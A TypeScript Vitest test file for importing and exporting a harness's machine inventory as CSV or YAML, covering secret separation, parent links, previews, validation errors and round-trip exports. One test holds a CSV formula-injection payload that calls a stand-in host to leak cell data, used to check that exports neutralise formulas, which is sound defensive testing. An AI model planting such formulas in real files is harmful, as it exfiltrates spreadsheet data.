import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import type { SutFileFormat } from '../../../src-shared/contract/harness/sut-files.ts';
import { Changes } from '../../changes.ts';
import { openStore } from '../../store/open.ts';
import { keyFileBackend } from '../secrets/key-file-backend.ts';
import { createSecretStore } from '../secrets/secret-store.ts';
import { notObserved } from '../suts/not-observed.ts';
import { readAllSuts, type SutServices } from '../suts/sut-services.ts';
import { exportSuts } from './export-suts.ts';
import { importSuts, previewSuts } from './import-suts.ts';

const ada = { user: 'ada', origin: 'desktop' } as const;
let services: SutServices;

beforeEach(() => {
  const home = mkdtempSync(join(tmpdir(), 'atn-sut-files-'));
  const { write } = openStore({ file: join(home, 'harness.db'), backups: home, now: 1 });
  let now = 1000;
  const nobody = () => {
    throw new Error('nothing is held here');
  };
  services = {
    store: write,
    changes: new Changes(),
    clock: { now: () => (now += 1) },
    holds: { hold: nobody, release: nobody },
    secrets: createSecretStore(write, [keyFileBackend(join(home, 'secret.key'))]),
    observed: notObserved,
  };
});

const csv = (text: string) => importSuts(services, { format: 'csv', text }, ada);
const yaml = (text: string) => importSuts(services, { format: 'yaml', text }, ada);
const preview = (text: string, format: SutFileFormat = 'csv') => previewSuts(services, { format, text });
const find = (name: string) => {
  const sut = readAllSuts(services).find((each) => each.name === name);
  if (sut === undefined) throw new Error(`there is no ${name}`);
  return sut;
};

const LAB = `name,role,tags,maintainedBy,parent,endpoint.provider,endpoint.address,endpoint.user,endpoint.password,rack,cores:number,token:secret
enclosure-1,environment,,,,,,,,R3,,
dl380-07,sut,uefi; 25G,maria,enclosure-1,ipmi,10.20.4.17,admin,hush,R3,32,open sesame
`;

describe('a CSV file of machines', () => {
  it('adds them, with passwords and secrets kept apart', async () => {
    expect((await csv(LAB)).map(({ outcome }) => outcome)).toEqual(['new', 'new']);
    const sut = find('dl380-07');
    expect(sut).toMatchObject({ maintainedBy: 'maria', tags: ['uefi', '25G'], parentId: find('enclosure-1').id, role: 'sut' });
    expect(sut.endpoints).toMatchObject([{ provider: 'ipmi', address: '10.20.4.17', user: 'admin', secret: expect.any(String) as string }]);
    expect(sut.information).toMatchObject([
      { key: 'rack', value: 'R3' },
      { key: 'cores', kind: 'number', value: 32 },
      { key: 'token', kind: 'secret', value: expect.any(String) as string },
    ]);
    expect(JSON.stringify(readAllSuts(services))).not.toMatch(/hush|open sesame/u);
  });

  it('adds a parent that stands below what is part of it', async () => {
    expect((await csv('name,parent\nblade,box\nbox,')).map(({ outcome }) => outcome)).toEqual(['new', 'new']);
    expect(find('blade').parentId).toBe(find('box').id);
  });

  it('says of each line what it would do, and does nothing', async () => {
    await csv(LAB);
    const rows = preview(
      'name,tags,cores:number,parent\ndl380-07,uefi;25G,64,\nnew-1,,many,\n,x,,\nnew-2,,1,nowhere\nenclosure-1,,,\nnew-3,,,\nnew-3,,,',
    );
    expect(rows.map(({ line, name, outcome }) => [line, name, outcome])).toEqual([
      [2, 'dl380-07', 'changed'],
      [3, 'new-1', 'wrong'],
      [4, '', 'wrong'],
      [5, 'new-2', 'wrong'],
      [6, 'enclosure-1', 'same'],
      [7, 'new-3', 'new'],
      [8, 'new-3', 'wrong'],
    ]);
    expect(rows[0]?.changes).toEqual(['field cores']);
    expect(rows.flatMap(({ problems }) => problems)).toEqual([
      'The field cores takes a number.',
      'name: A name is needed.',
      'It is part of nowhere, which is neither known here nor in this file.',
      'Line 7 is about new-3 already.',
    ]);
    expect(readAllSuts(services)).toHaveLength(2);
  });

  it('takes the right lines although others are wrong, and leaves alone what it does not name', async () => {
    await csv(LAB);
    const before = find('dl380-07');
    const rows = await csv('name,rack,cores:number\ndl380-07,R9,\nbroken,,a lot\nnew-1,R1,4');
    expect(rows.map(({ outcome }) => outcome)).toEqual(['changed', 'wrong', 'new']);
    const after = find('dl380-07');
    expect(after).toMatchObject({ tags: before.tags, maintainedBy: 'maria', parentId: before.parentId, endpoints: before.endpoints });
    expect(after.information).toEqual(before.information.map((field) => (field.key === 'rack' ? { ...field, value: 'R9' } : field)));
  });

  it('keeps a formula as the text that it is, and writes it so that no spreadsheet computes it', async () => {
    const formula = '=HYPERLINK("http://x.test/?"&A1)';
    await csv(`name,note\nm,"${formula.replaceAll('"', '""')}"`);
    expect(find('m').information).toMatchObject([{ key: 'note', value: formula }]);
    const { text } = exportSuts(services, { format: 'csv' });
    for (const cell of text.split(/\r\n|,/u)) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/u);
    expect(preview(text)).toMatchObject([{ name: 'm', outcome: 'same' }]);
  });

  it('refuses a circle', () => {
    expect(preview('name,parent\na,b\nb,a').map(({ problems }) => problems)).toEqual([
      ['It would be part of itself, by way of b.'],
      ['It is part of a, which cannot be added: see line 2.'],
    ]);
  });

  it.each([
    ['', 'The first line names the columns'],
    ['rack,cores\n1,2', 'The first line names the columns'],
    ['name,note\na,"open', 'Line 2: a quotation mark'],
    ['name\nM\uFFFDnchen', 'not in UTF-8'],
  ])('says what is wrong with the whole file: %j', (text, words) => expect(() => preview(text)).toThrow(words));
});

describe('a YAML file of machines', () => {
  it('takes what the API takes, and a short map of information', async () => {
    await yaml(
      '- name: a\n  information: {rack: R3, cores: 8, ready: true}\n  endpoints: [{provider: command, commands: {on: [pdu, "on"]}}]\n- name: b\n  parent: a\n',
    );
    expect(find('a').information.map(({ kind, value }) => [kind, value])).toEqual([
      ['text', 'R3'],
      ['number', 8],
      ['boolean', true],
    ]);
    expect(find('b').parentId).toBe(find('a').id);
  });

  it('says where it is broken, and what nobody knows', () => {
    expect(() => preview('- name: a\n  tags: [x\n- name: b', 'yaml')).toThrow(/^Line \d+: this is not YAML/u);
    expect(preview('- name: a\n  rak: R3\n- 7\n', 'yaml').map(({ line, problems }) => [line, problems[0]])).toEqual([
      [1, 'Nobody knows what "rak" is. What is told to suites stands under information.'],
      [3, 'This is no machine: name: ... is expected.'],
    ]);
  });
});

describe.each(['csv', 'yaml'] as const)('an export as %s', (format) => {
  it('holds no secret, and read again it changes nothing', async () => {
    await csv(LAB);
    await yaml(
      '- name: pdu\n  endpoints: [{provider: command, commands: {on: [pdu, "on", "outlet, 3"]}}, {provider: qemu, memoryMib: 512, diskGib: 0}]',
    );
    const { text, fileName } = exportSuts(services, { format });
    expect(fileName).toBe(`machines.${format}`);
    expect(text).not.toMatch(/hush|open sesame|secret-|password: /u);
    expect(preview(text, format).map(({ name, outcome, changes, problems }) => [name, outcome, changes, problems])).toEqual(
      ['dl380-07', 'enclosure-1', 'pdu'].map((name) => [name, 'same', [], []]),
    );
  });
});
